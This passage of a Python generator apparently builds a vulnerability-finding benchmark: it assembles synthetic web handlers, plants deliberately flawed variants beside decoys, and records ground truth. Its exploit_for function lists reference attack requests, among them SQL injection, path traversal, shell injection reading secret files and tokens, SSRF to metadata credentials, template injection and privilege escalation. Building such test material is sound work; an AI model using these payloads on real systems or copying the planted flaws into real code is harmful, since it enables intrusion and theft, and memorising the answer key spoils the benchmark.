    if not row["archived"]:
        raise HttpError(409, "__S__ is not archived")
    if row["status"] == "cancelled" and req.user["role"] == "user":
        raise HttpError(403, "only a manager can restore a cancelled __S__")
    db.execute(f"UPDATE {TABLE} SET archived = 0 WHERE id = ?", (row["id"],))
    _audit(req, "restore", row["id"])
    return {"id": row["id"], "archived": False}
'''
T["import_rows", "safe"] = '''
@route("POST", "/__P__/import")
def import___P__(req):
    user = auth.require_role(req, "manager")
    text = str(req.body.get("csv", ""))
    lines = [line for line in text.splitlines() if line.strip()]
    if not lines or lines[0].strip().lower() != "name,amount":
        raise HttpError(400, "the first line must be the header name,amount")
    if len(lines) > 1001:
        raise HttpError(400, "at most 1000 rows per import")
    created, errors = [], []
    for number, line in enumerate(lines[1:], start=2):
        name, _, amount = line.rpartition(",")
        name = name.strip().strip('"')
        if not name or not amount.strip().isdigit():
            errors.append({"line": number, "error": "expected name,amount"})
            continue
        created.append(db.execute(
            f"INSERT INTO {TABLE} (tenant_id, owner_id, name, status, notes, amount, created_at)"
            " VALUES (?, ?, ?, 'draft', '', ?, datetime('now'))",
            (user["tenant_id"], user["id"], name[:120], int(amount)),
        ))
    _audit(req, "import", f"{len(created)} rows")
    return {"created": created, "errors": errors[:50]}
'''
T["monthly_report", "safe"] = '''
@route("GET", "/__P__/report")
def __P___monthly_report(req):
    user = auth.require_user(req)
    year = req.query.get("year", "2024")
    if not (len(year) == 4 and year.isdigit()):
        raise HttpError(400, "year must be four digits")
    rows = db.query(
        f"SELECT substr(created_at, 1, 7) AS month, COUNT(*) AS n, SUM(amount) AS total FROM {TABLE}"
        " WHERE tenant_id = ? AND substr(created_at, 1, 4) = ? GROUP BY month ORDER BY month",
        (user["tenant_id"], year),
    )
    months = {r["month"]: {"count": r["n"], "total": r["total"]} for r in rows}
    best = max(months, key=lambda m: months[m]["total"]) if months else None
    return {"year": int(year), "months": months, "best_month": best}
'''

ACCOUNT_HEADER = '''"""Account settings: __SC__. Every handler edits the caller's own user record."""

import platform_auth as auth
import platform_db as db
from platform_http import HttpError, route

EDITABLE = EDITABLE_PLACEHOLDER
'''
_ACCOUNT_TAIL = '''    for column, value in changes.items():
        db.execute(f"UPDATE users SET {column} = ? WHERE id = ?", (value, user["id"]))
    fresh = db.query_one("SELECT id, username, display_name, locale, timezone, email, phone, bio, digest"
                         " FROM users WHERE id = ?", (user["id"],))
    return {"updated": sorted(changes), "account": fresh}
'''
T["account", "safe"] = '''
@route("POST", "/account/__P__")
def update___S__(req):
    user = auth.require_user(req)
    changes = {key: str(value)[:200] for key, value in req.body.items() if key in EDITABLE}
    if not changes:
        raise HttpError(400, "nothing to update")
''' + _ACCOUNT_TAIL
T["account", "decoy-explicit-map"] = '''
@route("POST", "/account/__P__")
def update___S__(req):
    user = auth.require_user(req)
    changes = {}
    for key, value in req.body.items():
        column = {name: name for name in EDITABLE}.get(key.strip().lower())
        if column is None:
            raise HttpError(400, f"{key} cannot be changed here")
        changes[column] = str(value)[:200]
''' + _ACCOUNT_TAIL
T["account", "account-isidentifier"] = '''
@route("POST", "/account/__P__")
def update___S__(req):
    user = auth.require_user(req)
    changes = {}
    for key, value in req.body.items():
        if not key.isidentifier() or key in ("id", "username"):
            raise HttpError(400, f"{key} cannot be changed")
        changes[key] = str(value)[:200]
    unknown = [key for key in changes if key not in EDITABLE]
    if len(unknown) == len(changes):
        raise HttpError(400, "nothing to update")
''' + _ACCOUNT_TAIL
T["account", "account-blocklist"] = '''
@route("POST", "/account/__P__")
def update___S__(req):
    user = auth.require_user(req)
    blocked = {"id", "username", "password_hash", "api_key", "role"}
    changes = {key: str(value)[:200] for key, value in req.body.items()
               if key.replace("_", "").isalnum() and key not in blocked}
    if not changes:
        raise HttpError(400, "nothing to update")
''' + _ACCOUNT_TAIL

ACCOUNT_FIELDS = {
    "profile": ("display_name", "bio"),
    "preferences": ("digest", "marketing_opt_in"),
    "onboarding": ("onboarding_step",),
    "contact": ("email", "phone"),
    "notifications": ("digest",),
    "locale": ("locale", "timezone"),
}


# ---------------------------------------------------------------- exploits (reference)

def exploit_for(kind, variant, res, sing):
    """Requests that make a vulnerable handler reveal a secret."""
    rid = "1"
    if variant == "list-status-splice":
        q = f"x' UNION SELECT id, notes, status, amount, created_at FROM {res} WHERE tenant_id = 2 AND '1'='1"
        return [{"method": "GET", "path": f"/{res}", "query": {"status": q}}]
    if variant == "search-like-splice":
        q = f"zz%' UNION SELECT id, notes, status, amount, created_at FROM {res} WHERE tenant_id = 2 AND name LIKE '%"
        return [{"method": "GET", "path": f"/{res}/search", "query": {"q": q}}]
    if variant == "search-helper-clause":
        st = f"x' UNION SELECT id, notes, status, amount, created_at FROM {res} WHERE tenant_id = 2 AND '1'='1"
        return [{"method": "GET", "path": f"/{res}/search", "query": {"q": "%", "status": st}}]
    if variant == "similar-second-order":
        name = (f"zz'/**/UNION/**/SELECT/**/id,notes,status,amount,created_at/**/FROM/**/{res}"
                "/**/WHERE/**/tenant_id=2/**/AND/**/name/**/LIKE/**/'")
        return [{"method": "POST", "path": f"/{res}/1", "body": {"name": name}},
                {"method": "GET", "path": f"/{res}/1/similar"}]
    if variant == "get-shared-flag":
        return [{"method": "GET", "path": f"/{res}/4", "query": {"share_token": "x"}}]
    if variant == "export-decode-after-check":
        return [{"method": "GET", "path": f"/{res}/exports/x", "query": {"file": "%2e%2e/%2e%2e/2/" + res + "/report-4.txt"}}]
    if variant == "convert-stored-name":
        return [{"method": "POST", "path": f"/{res}/1", "body": {"name": "x;cat\t/etc/service/secret.conf;"}},
                {"method": "POST", "path": f"/{res}/1/pdf", "body": {"title": "t"}}]
    if variant == "notice-stored-notes":
        return [{"method": "POST", "path": f"/{res}/1", "body": {"notes": "{{ config.secret_key }}"}},
                {"method": "POST", "path": f"/{res}/1/notice", "body": {"message": "hi"}}]
    if variant == "admin-string-compare":
        return [{"method": "GET", "path": f"/admin/{res}"}]
    if variant == "get-no-tenant":
        return [{"method": "GET", "path": f"/{res}/4"}]
    if variant == "get-tenant-from-query":
        return [{"method": "GET", "path": f"/{res}/4", "query": {"tenant_id": "2"}}]
    if variant == "attachments-owner-param":
        return [{"method": "GET", "path": f"/{res}/4/notes", "query": {"owner_id": "4"}}]
    if variant == "export-no-check":
        return [{"method": "GET", "path": f"/{res}/exports/x", "query": {"file": "../../2/" + res + "/report-4.txt"}}]
    if variant == "export-strip-once":
        return [{"method": "GET", "path": f"/{res}/exports/x", "query": {"file": "....//....//2/" + res + "/report-4.txt"}}]
    if variant == "export-leading-slash-only":
        return [{"method": "GET", "path": f"/{res}/exports/x", "query": {"file": "../../../etc/service/secret.conf"}}]
    if variant == "convert-fstring":
        return [{"method": "POST", "path": f"/{res}/{rid}/pdf", "body": {"title": "x; cat /etc/service/secret.conf;"}}]
    if variant == "convert-manual-quote":
        return [{"method": "POST", "path": f"/{res}/{rid}/pdf", "body": {"title": "$(printenv SERVICE_TOKEN)"}}]
    if variant == "convert-strip-semicolon":
        return [{"method": "POST", "path": f"/{res}/{rid}/pdf", "body": {"title": "x' | cat /etc/service/secret.conf '"}}]
    if variant == "preview-no-check":
        return [{"method": "POST", "path": f"/{res}/{rid}/preview", "body": {"url": "http://metadata.internal/latest/credentials"}}]
    if variant == "preview-prefix-check":
        return [{"method": "POST", "path": f"/{res}/{rid}/preview",
                 "body": {"url": "https://cdn.partner.example@metadata.internal:80/latest/credentials"}}]
    if variant == "preview-blocklist":
        return [{"method": "POST", "path": f"/{res}/{rid}/preview", "body": {"url": "http://127.0.0.1:8500/v1/secrets"}}]
    if variant == "notice-concat":
        return [{"method": "POST", "path": f"/{res}/{rid}/notice", "body": {"footer": "{{ config.secret_key }}"}}]
    if variant == "notice-subject":
        return [{"method": "POST", "path": f"/{res}/{rid}/notice", "body": {"subject": "{{ config.secret_key }}"}}]
    if variant == "admin-no-check":
        return [{"method": "GET", "path": f"/admin/{res}"}]
    if variant == "admin-header-trust":
        return [{"method": "GET", "path": f"/admin/{res}", "headers": {"X-Effective-Role": "admin"}}]
    if variant == "admin-debug-flag":
        return [{"method": "GET", "path": f"/admin/{res}", "query": {"debug": "1"}}]
    if variant in ("account-isidentifier", "account-blocklist"):
        body = {"tenant_id": "2"} if variant == "account-blocklist" else {"role": "admin", "tenant_id": "2"}
        body[ACCOUNT_FIELDS[res][0]] = "1"
        return [{"method": "POST", "path": f"/account/{res}", "body": body},
                {"method": "GET", "path": "/__FIRST__/4"}]
    raise KeyError(variant)


# ---------------------------------------------------------------- building


def build(seed, n_resources, n_account, n_vulns, class_quota=None, kinds=None, fillers=None):
    """Generate a service. class_quota (optional) maps class -> how many to plant."""
    rng = random.Random(seed)
    nouns = rng.sample(NOUNS, n_resources)
    accounts = rng.sample(ACCOUNT_MODULES, n_account)
    kinds = kinds or RESOURCE_KINDS
    # slots: (module kind, res, sing, handler kind)
    slots = []
    for res, sing in nouns:
        for kind in kinds:
            slots.append(("res", res, sing, kind))
    for acc in accounts:
        slots.append(("acc", acc, acc, "account"))
    # choose planted slots
    planted = {}
    quota = dict(class_quota or {})
    order = slots[:]
    rng.shuffle(order)
    if quota:
        for slot in order:
            options = [v for v in VULN_VARIANTS.get(slot[3], []) if quota.get(v[0], 0) > 0]
            if options and slot not in planted:
                cls, var = rng.choice(options)
                planted[slot] = (cls, var)
                quota[cls] -= 1
    else:
        for slot in order:
            if len(planted) >= n_vulns:
                break
            if slot[3] in VULN_VARIANTS:
                planted[slot] = rng.choice(VULN_VARIANTS[slot[3]])
    files = {}
    for name in PLATFORM:
        files[name] = (SRC / name).read_text()
    truth, exploits, chosen = [], [], {}
    for res, sing in nouns:
        filler = rng.sample(FILLER_KINDS, fillers if fillers is not None else len(FILLER_KINDS))
        parts = [sub(HEADER, res, sing).replace("STATUSES_PLACEHOLDER", repr(tuple(rng.sample(STATUSES, 5))))]
        handler_kinds = list(kinds) + ["update"] + filler
        rng.shuffle(handler_kinds)
        for kind in handler_kinds:
            slot = ("res", res, sing, kind)
            if slot in planted:
                cls, var = planted[slot]
            else:
                var = rng.choice(["safe"] + DECOYS.get(kind, [])) if kind in DECOYS else "safe"
            chosen[res, kind] = var
            code = vary(sub(T[kind, var], res, sing), rng)
            parts.append("\n" + code)
            if slot in planted:
                fn = code.split("def ", 1)[1].split("(", 1)[0]
                truth.append({"function": f"mod_{res}.{fn}", "class": cls, "variant": var})
                exploits.append({"function": f"mod_{res}.{fn}", "class": cls,
                                 "requests": exploit_for(kind, var, res, sing)})
        files[f"mod_{res}.py"] = "".join(parts)
    for acc in accounts:
        slot = ("acc", acc, acc, "account")
        if slot in planted:
            cls, var = planted[slot]
        else:
            var = rng.choice(["safe"] + DECOYS["account"])
        code = vary(sub(T["account", var], acc, acc), rng)
        header = sub(ACCOUNT_HEADER, acc, acc).replace("EDITABLE_PLACEHOLDER", repr(ACCOUNT_FIELDS[acc]))
        files[f"mod_{acc}.py"] = header + "\n" + code
        if slot in planted:
            fn = f"update_{acc}"
            truth.append({"function": f"mod_{acc}.{fn}", "class": cls, "variant": var})
            reqs = exploit_for("account", var, acc, acc)
            follow = [f"/{r}/4" for r, _ in nouns if chosen[r, "get"] != "decoy-owner-only"]
            reqs[-1]["path"] = (follow or [f"/{nouns[0][0]}/4/notes"])[0]
            exploits.append({"function": f"mod_{acc}.{fn}", "class": cls, "requests": reqs})
    files["schema.py"] = ('"""Tables of the resource modules (world.py creates them)."""\n\n'
                          f"RESOURCES = {sorted(r for r, _ in nouns)!r}\n")
    truth.sort(key=lambda t: t["function"])
    exploits.sort(key=lambda e: e["function"])
    return files, truth, exploits
